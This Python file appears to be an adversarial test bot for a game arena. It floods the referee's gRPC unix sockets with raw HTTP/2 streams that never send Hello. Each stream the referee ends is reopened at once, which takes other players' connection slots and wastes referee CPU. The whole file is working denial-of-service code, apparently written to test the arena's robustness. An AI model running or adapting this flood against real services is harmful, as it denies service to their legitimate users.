"""Opens streams to every referee socket it can find that never say Hello,
and opens a new one for each the referee ends: to take the other seats'
Hello slots (so that they cannot connect) and to make the referee spend its
CPU refusing streams. Raw HTTP/2 over the unix socket, so that nothing of
gRPC's client gets in the way (no queueing, no retries).

attack.json "when": "start" floods before its own Hello (before importing
gRPC, to be first), "playing" after its first decision, beside its own
open stream. "seconds": how long.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import threading
import time

# Not `adversary` yet: importing it imports gRPC, and this bot wants to be
# quicker than the other seats' Hello.
from reach import other_sockets, report

HERE = os.path.dirname(os.path.abspath(__file__))

_HEADERS, _SETTINGS, _PING, _RST, _GOAWAY = 1, 4, 6, 3, 7
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    # HPACK: literal header field without indexing, new name (RFC 7541 6.2.2).
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_REQUEST = b"".join(_literal(n, v) for n, v in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/arena.v1.Referee/Play"),
    (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
])


def _hold(path: str, until: float, counts: dict[str, int]) -> None:
    """One connection: 8 silent streams, each replaced as soon as it ends."""
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
    except OSError:
        counts["failed"] = counts.get("failed", 0) + 1
        return
    s.settimeout(0.2)
    stream = 1

    def open_one() -> None:
        nonlocal stream
        s.sendall(_frame(_HEADERS, _END_HEADERS, stream, _REQUEST))
        stream += 2
        counts["opened"] = counts.get("opened", 0) + 1

    try:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))
        for _ in range(8):
            open_one()
        buf = b""
        while time.monotonic() < until:
            try:
                chunk = s.recv(65536)
            except TimeoutError:
                continue
            if not chunk:
                return
            buf += chunk
            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                size = int.from_bytes(buf[:3], "big")
                kind, flags, payload, buf = buf[3], buf[4], buf[9:9 + size], buf[9 + size:]
                if kind == _SETTINGS and not flags & _ACK:
                    s.sendall(_frame(_SETTINGS, _ACK, 0))
                elif kind == _PING and not flags & _ACK:
                    s.sendall(_frame(_PING, _ACK, 0, payload))
                elif kind == _GOAWAY:
                    return
                elif kind == _RST or (kind in (0, _HEADERS) and flags & _END_STREAM):
                    open_one()  # the referee ended one: open the next
    except OSError:
        return
    finally:
        s.close()


def flood(seconds: float) -> None:
    own = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
    others = other_sockets(own)
    report("reach", f"{len(others)} other sockets")
    until = time.monotonic() + seconds
    counts: dict[str, int] = {}
    threads = [threading.Thread(target=_hold, args=(path, until, counts), daemon=True)
               for path in [own, *others] for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report("flood", f"opened {counts.get('opened', 0)} streams, "
                    f"{counts.get('failed', 0)} connections failed")


with open(os.path.join(HERE, "attack.json")) as f:
    settings = json.load(f)
if settings.get("when") == "start":
    flood(float(settings.get("seconds", 4.0)))

from adversary import Adversary, main  # noqa: E402 - after the flood: gRPC's import is slow


class StreamFlood(Adversary):
    flooding: threading.Thread | None = None

    def attack(self) -> None:
        if settings.get("when") == "playing":
            self.flooding = threading.Thread(
                target=flood, args=(float(settings.get("seconds", 4.0)),), daemon=True)
            self.flooding.start()

    def act(self, obs: object) -> object:
        # Its next decision waits for the flood (inside its clock: the flood
        # is shorter than the per-move time plus the bank), so the match
        # cannot end before the flood has run, however loaded the machine.
        if self.flooding is not None and self.turns >= 1:
            self.flooding.join()
        return super().act(obs)


main(StreamFlood())
